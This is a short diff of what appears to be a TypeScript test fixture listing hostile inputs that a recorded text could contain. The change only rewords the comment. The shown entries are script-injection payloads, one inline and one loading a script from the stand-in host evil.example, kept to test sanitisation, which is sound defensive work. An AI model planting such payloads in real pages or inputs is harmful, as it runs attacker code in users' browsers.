@@ -1,4 +1,4 @@
-/** What a recorded text could try, each under a name that says what would happen. `pwned` is a global that only a script could set. */
+/** Attacks that a recorded text could try, by name. `pwned` is a global that only a script could set. */
 export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
   'script element': '<script>window.pwned=1</script>',
   'script with a source': '<script src="https://evil.example/x.js"></script>',
